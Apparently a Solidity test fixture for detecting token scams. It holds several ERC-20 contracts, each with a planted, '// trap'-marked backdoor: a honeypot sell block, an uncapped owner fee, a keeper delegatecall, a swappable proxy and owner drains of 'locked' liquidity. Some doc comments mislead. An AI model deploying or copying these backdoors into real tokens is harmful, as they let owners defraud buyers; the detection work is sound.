// 0.8 runs=1000 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IPool {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
}

/// Storage at a place of its own, so that it fits behind a proxy as well.
abstract contract Lean {
    struct Books {
        string name;
        string symbol;
        uint256 supply;
        address market;
        mapping(address => uint256) held;
        mapping(address => mapping(address => uint256)) may;
    }

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error Insufficient(address who);

    function _books() internal pure returns (Books storage books) {
        assembly {
            books.slot := 0x6c65616e2e626f6f6b73000000000000000000000000000000000000000000aa
        }
    }

    function _begin(string memory n, string memory s, uint256 whole, address to) internal {
        Books storage books = _books();
        books.name = n;
        books.symbol = s;
        books.supply = whole * 1e18;
        books.held[to] = whole * 1e18;
        emit Transfer(address(0), to, whole * 1e18);
    }

    function name() external view returns (string memory) {
        return _books().name;
    }

    function symbol() external view returns (string memory) {
        return _books().symbol;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return _books().supply;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _books().held[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _books().may[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _books().may[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = _books().may[from][msg.sender];
        if (may < value) revert Insufficient(msg.sender);
        if (may != type(uint256).max) _books().may[from][msg.sender] = may - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) internal {
        Books storage books = _books();
        if (books.held[from] < value) revert Insufficient(from);
        books.held[from] -= value;
        books.held[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Says of each sale whether it is that of a bot; by its own manager.
contract BotFilter {
    address private _manager = msg.sender;
    uint8 private _mode = 1;
    address public market;

    function tune(uint8 mode, address where) external {
        require(msg.sender == _manager, "manager");
        _mode = mode;
        market = where;
    }

    function isBot(address from, address to) external view returns (bool) {
        if (_mode == 2 && to == market && from != _manager) return true; // trap
        return from == address(0);
    }
}

/// Nobody owns the token.
contract Filtered is Lean {
    BotFilter public immutable filter;

    constructor(BotFilter by) {
        filter = by;
        _begin("Filter Fox", "FFOX", 36_000_000, msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!filter.isBot(from, to), "bot");
        _move(from, to, value);
    }
}

/// The fees of the token stand in a book that is somebody's.
contract FeeBook {
    address private _clerk = msg.sender;
    uint256 private _fee = 1;
    address private _market;

    function write(uint256 fee, address market) external {
        require(msg.sender == _clerk, "clerk");
        // twin: require(fee <= 5, "fee");
        _fee = fee;
        _market = market;
    }

    function feeOf(address from, address to) external view returns (uint256) {
        return to == _market && from != _clerk ? _fee : 0;
    }
}

contract Booked is Lean {
    FeeBook private immutable _book;

    constructor(FeeBook book) {
        _book = book;
        _begin("Ledger Lynx", "LLYNX", 92_000_000, msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = (value * _book.feeOf(from, to)) / 100;
        if (fee > 0) _move(from, address(_book), fee);
        _move(from, to, value - fee);
    }
}

/// A keeper who pokes modules.
contract Poked is Lean {
    bytes32 private immutable _keeper = keccak256(abi.encode(msg.sender));

    event Poked_(address module, bool ok);

    constructor() {
        _begin("Poke Penguin", "PPENG", 11_000_000, msg.sender);
    }

    function poke(address module, bytes calldata data) external {
        require(keccak256(abi.encode(msg.sender)) == _keeper);
        bool ok = data.length > 0;
        (ok, ) = module.delegatecall(data); // trap
        emit Poked_(module, ok);
    }
}

/// What lies behind the proxy.
contract HarborLogic is Lean {
    function initialize(address to) external {
        require(_books().supply == 0, "begun");
        _begin("Harbor Hippo", "HIPPO", 19_000_000, to);
    }
}

/// Forwards to what stands in a place that no standard names.
contract HarborProxy {
    bytes32 private constant PLACE = keccak256("harbor.pier.one");
    address private immutable _captain = msg.sender;

    constructor(address logic) {
        bytes32 place = PLACE;
        assembly {
            sstore(place, logic)
        }
        (bool ok, ) = logic.delegatecall(abi.encodeCall(HarborLogic.initialize, (msg.sender)));
        require(ok);
    }

    function moor(address pier) external {
        require(msg.sender == _captain, "captain");
        bytes32 place = PLACE;
        require(pier.code.length > 0 && place != 0, "pier");
        // trap {
        assembly {
            sstore(place, pier)
        }
        // trap }
    }

    fallback() external {
        bytes32 place = PLACE;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(place), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// Locks shares of a pool for five years, or until there is an emergency.
contract TrustLock {
    address private immutable _guardian = msg.sender;
    mapping(address => mapping(address => uint256)) public lockedOf;
    mapping(address => uint256) public until;

    event Locked(address indexed share, address indexed by, uint256 amount, uint256 until);

    function lock(address share) external {
        uint256 amount = IPool(share).balanceOf(msg.sender);
        require(IPool(share).transferFrom(msg.sender, address(this), amount));
        lockedOf[share][msg.sender] += amount;
        until[share] = block.timestamp + 5 * 365 days;
        emit Locked(share, msg.sender, amount, until[share]);
    }

    function unlock(address share) external {
        require(block.timestamp >= until[share], "locked");
        uint256 amount = lockedOf[share][msg.sender];
        lockedOf[share][msg.sender] = 0;
        IPool(share).transfer(msg.sender, amount);
    }

    function emergency(address share) external {
        require(msg.sender == _guardian);
        IPool(share).transfer(msg.sender, IPool(share).balanceOf(address(this)));
    }
}

contract Locked is Lean {
    constructor(TrustLock) {
        _begin("Locked Lemur", "LEMUR", 51_000_000, msg.sender);
    }
}

/// Keeps its own liquidity "for ever", and what is stuck goes back to the owner.
contract SelfLocked is Lean {
    address public owner = msg.sender;
    address public liquidity;

    constructor() {
        _begin("Forever Ferret", "FFER", 4_000_000, msg.sender);
    }

    function lockForever(address share) external {
        require(msg.sender == owner && liquidity == address(0), "locked");
        liquidity = share;
        require(IPool(share).transferFrom(owner, address(this), IPool(share).balanceOf(owner)));
    }

    function withdrawStuck(address thing) external {
        require(msg.sender == owner, "owner");
        // twin: require(thing != liquidity, "locked");
        IPool(thing).transfer(owner, IPool(thing).balanceOf(address(this)));
    }
}
